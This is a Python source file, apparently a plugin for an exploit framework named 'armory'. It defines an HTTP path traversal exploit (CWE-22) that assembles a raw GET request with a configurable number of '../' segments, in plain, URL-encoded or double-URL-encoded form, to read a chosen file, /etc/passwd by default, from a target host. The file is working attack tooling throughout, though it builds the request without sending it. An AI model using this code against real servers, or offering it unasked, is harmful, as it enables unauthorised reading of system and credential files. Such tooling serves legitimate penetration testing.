"""HTTP path traversal probe."""

from typing import Any

from armory.contracts import ParamError
from armory.plugins.base import BaseExploit
from armory.plugins.params import Param

_TRAVERSALS = {
    "none": "../",
    "url": "%2e%2e%2f",
    "double_url": "%252e%252e%252f",
}


class HTTPPathTraversal(BaseExploit):
    """Directory traversal through a file-serving query parameter.

    Builds the raw HTTP/1.1 request that climbs ``depth`` directories from
    ``path`` and reads ``file``. The request is returned, not sent.
    """

    id = "http/path_traversal"
    advisories = ("CWE-22",)
    params = {
        "host": Param("string", required=True, pattern=r"[A-Za-z0-9.\-]+", desc="Target host"),
        "port": Param("integer", default=80, minimum=1, maximum=65535, desc="Target port"),
        "path": Param("string", default="/download?file=", desc="Vulnerable path and parameter"),
        "file": Param(
            "string",
            default="etc/passwd",
            pattern=r"[A-Za-z0-9._/\-]+",
            desc="File to read, relative to the filesystem root",
        ),
        "depth": Param("integer", default=6, minimum=1, maximum=32, desc="Number of ../ segments"),
        "encoding": Param(
            "enum",
            default="none",
            choices=tuple(_TRAVERSALS),
            desc="How traversal segments are encoded",
        ),
    }

    def check_param(self, name: str, value: Any) -> None:
        if name == "path":
            if not value.startswith("/"):
                raise ParamError(name, "path must start with '/'")
            if any(c in value for c in "\r\n "):
                raise ParamError(name, "path cannot contain whitespace")

    def build(self) -> str:
        host = self.params["host"]
        port = self.params["port"]
        host_header = host if port == 80 else f"{host}:{port}"
        target = (
            self.params["path"]
            + _TRAVERSALS[self.params["encoding"]] * self.params["depth"]
            + self.params["file"].lstrip("/")
        )
        return (
            f"GET {target} HTTP/1.1\r\n"
            f"Host: {host_header}\r\n"
            "User-Agent: armory\r\n"
            "Connection: close\r\n"
            "\r\n"
        )
